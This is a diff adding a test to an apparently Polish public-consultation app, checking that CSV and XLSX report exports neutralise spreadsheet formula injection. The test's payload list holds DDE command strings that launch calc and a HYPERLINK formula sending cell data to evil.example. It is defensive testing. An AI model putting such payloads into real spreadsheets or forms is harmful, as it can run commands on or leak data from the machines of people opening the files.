@@ -33,6 +33,14 @@ describe('the consultation report: preview, publication as frozen editions, publ
     expect((await server.request(`/api/consultation-comments/${ids[key]}/disposition`, { method: 'PUT', token: coordinator, body: { disposition, justification } })).status).toBe(204);
     if (approve) expect((await server.request(`/api/consultation-comments/${ids[key]}/disposition/approve`, { token: coordinator, body: {} })).status).toBe(204);
   };
+  const upload = async (token: string, name: string, text: string) => {
+    const form = new FormData();
+    form.append('kind', 'other');
+    form.append('file', new Blob([text]), name);
+    const response = await fetch(`${server.url}/api/workspaces/${ws}/documents/import`, { method: 'POST', headers: { authorization: `Bearer ${token}` }, body: form });
+    expect(response.status).toBe(201);
+    return (await response.json()) as { id: string };
+  };
   const noPersonalData = (text: string, where: string) => {
     expect({ where, email: EMAIL.exec(text)?.[0] ?? null }).toEqual({ where, email: null });
     for (const secret of [...SUBMITTER_EMAILS, 'Anna Nowak', 'Jan Kowalski', 'Piotr Wiśniewski', '601 234 567']) expect({ where, found: text.includes(secret) ? secret : null }).toEqual({ where, found: null });
@@ -216,7 +224,8 @@ describe('the consultation report: preview, publication as frozen editions, publ
         const lines = texts.csv.split('\r\n');
         expect(lines[0]).toBe('\uFEFFNr uwagi,Rozdział,Część dokumentu,Dotychczasowy zapis,Proponowany zapis,Uzasadnienie uwagi,Zgłaszający,Rodzaj zgłaszającego,Forma zgłoszenia,Status,Rozstrzygnięcie,Uzasadnienie rozstrzygnięcia');
         expect(lines.filter((line) => /^U\/\d{4}\/\d{4},/.test(line))).toHaveLength(6);
-        expect(texts.csv).toContain(',Kolej do Goleniowa jest w celu 1; harmonogram zależy od PKP PLK.');
+        // Quoted for its semicolon, the list separator of Polish spreadsheets.
+        expect(texts.csv).toContain(',"Kolej do Goleniowa jest w celu 1; harmonogram zależy od PKP PLK."');
       } else {
         const workbook = new Workbook();
         await workbook.xlsx.load(response.body as unknown as ArrayBuffer);
@@ -289,5 +298,96 @@ describe('the consultation report: preview, publication as frozen editions, publ
     const entry = audit.body.entries.find((e: { action: string }) => e.action === 'consultation.report_published');
     expect(entry.details).toEqual({ edition: 2, sha256: second.body.sha256 });
     expect((await server.request(`/api/rounds/${roundId}`, { token: coordinator })).body.state).toBe('report_published');
+  });
+  it('writes no cell that a spreadsheet would run as a formula: staff CSV and XLSX, public CSV and XLSX', async () => {
+    const INJECTIONS = ["-2+3+cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?x="&A1,"Kliknij")', '@SUM(1+1)*cmd|\' /C calc\'!A0', '＝1+1', '+1+1'];
+    const documentId = (await upload(coordinator, 'formuly.md', '# Plan\n\nTekst planu.')).id;
+    const versionId = (await server.request(`/api/documents/${documentId}/versions`, { token: coordinator, body: { name: 'v1' } })).body.id;
+    const round = (
+      await server.request(`/api/workspaces/${ws}/rounds`, {
+        token: coordinator,
+        body: { documentId, versionId, title: 'Konsultacje planu', audiences: ['public'], channels: ['online_form'], opensAt: new Date(Date.now() - DAY).toISOString() },
+      })
+    ).body.id as string;
+    await server.request(`/api/rounds/${round}/announce`, { token: coordinator, body: {} });
+    await server.request(`/api/rounds/${round}/open`, { token: coordinator, body: {} });
+    const commentIds: string[] = [];
+    for (const [i, text] of INJECTIONS.entries()) {
+      const sent = await server.request(`/api/public/rounds/${round}/comments`, {
+        body: { part: text, proposedWording: text, justification: text, submitter: { kind: 'institution', name: i === 0 ? text : `Instytucja ${i}`, type: 'other' }, email: `biuro${i}@instytucja.example` },
+        headers: { 'x-forwarded-for': `203.0.113.${i + 1}` },
+      });
+      expect(sent.status).toBe(201);
+      commentIds.push(sent.body.id);
+    }
+    const quoted = INJECTIONS.map((text) => `'${text}`);
+    /** The fields of a CSV (RFC 4180), row by row. */
+    const parseCsv = (csv: string) => {
+      const rows: string[][] = [[]];
+      let field = '';
+      let inQuotes = false;
+      const end = (newRow: boolean) => {
+        rows.at(-1)!.push(field);
+        field = '';
+        if (newRow) rows.push([]);
+      };
+      for (let i = 0; i < csv.length; i++) {
+        const c = csv[i];
+        if (inQuotes && c === '"' && csv[i + 1] === '"') {
+          field += '"';
+          i++;
+        } else if (c === '"') {
+          inQuotes = !inQuotes;
+        } else if (!inQuotes && c === ',') {
+          end(false);
+        } else if (!inQuotes && c === '\r' && csv[i + 1] === '\n') {
+          end(true);
+          i++;
+        } else {
+          field += c;
+        }
+      }
+      return rows.filter((row) => row.length > 1);
+    };
+    const RUNS = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;
+    const checkCsv = (csv: string, where: string) => {
+      const cells = parseCsv(csv.replace(/^\uFEFF/, '')).flat();
+      expect({ where, running: cells.filter((cell) => RUNS.test(cell)) }).toEqual({ where, running: [] });
+      for (const text of quoted) expect({ where, text, found: cells.filter((cell) => cell === text).length >= 3 }).toEqual({ where, text, found: true });
+    };
+    const checkXlsx = async (body: Buffer, where: string) => {
+      const workbook = new Workbook();
+      await workbook.xlsx.load(body as unknown as ArrayBuffer);
+      const strings: string[] = [];
+      const numbers: number[] = [];
+      workbook.worksheets.forEach((sheet) =>
+        sheet.eachRow((row) =>
+          row.eachCell((cell) => {
+            if (typeof cell.value === 'string') strings.push(cell.value);
+            if (typeof cell.value === 'number') numbers.push(cell.value);
+            expect({ where, formula: cell.formula ?? null }).toEqual({ where, formula: null });
+          }),
+        ),
+      );
+      expect({ where, running: strings.filter((text) => RUNS.test(text)) }).toEqual({ where, running: [] });
+      for (const text of quoted) expect({ where, text, found: strings.filter((cell) => cell === text).length >= 3 }).toEqual({ where, text, found: true });
+      // Counts stay numbers: five comments received.
+      expect(numbers).toContain(5);
+    };
+
+    checkCsv((await file(`/api/rounds/${round}/report.csv`, coordinator)).body.toString('utf8'), 'staff csv');
+    await checkXlsx((await file(`/api/rounds/${round}/report.xlsx`, coordinator)).body, 'staff xlsx');
+
+    await server.db.query(`UPDATE consultation_rounds SET closes_at = now() - interval '1 second' WHERE id = $1`, [round]);
+    expect((await server.request(`/api/rounds/${round}/close`, { token: coordinator, body: {} })).status).toBe(200);
+    for (const id of commentIds) {
+      expect((await server.request(`/api/consultation-comments/${id}/disposition`, { method: 'PUT', token: coordinator, body: { disposition: 'explanation', justification: '=1+1 to nie formuła' } })).status).toBe(204);
+      expect((await server.request(`/api/consultation-comments/${id}/disposition/approve`, { token: coordinator, body: {} })).status).toBe(204);
+    }
+    expect((await server.request(`/api/rounds/${round}/report/publish`, { token: coordinator, body: {} })).status).toBe(201);
+    const publicCsv = (await file(`/api/public/rounds/${round}/report.csv`)).body.toString('utf8');
+    checkCsv(publicCsv, 'public csv');
+    expect(publicCsv).toContain(",'=1+1 to nie formuła");
+    await checkXlsx((await file(`/api/public/rounds/${round}/report.xlsx`)).body, 'public xlsx');
   });
 });
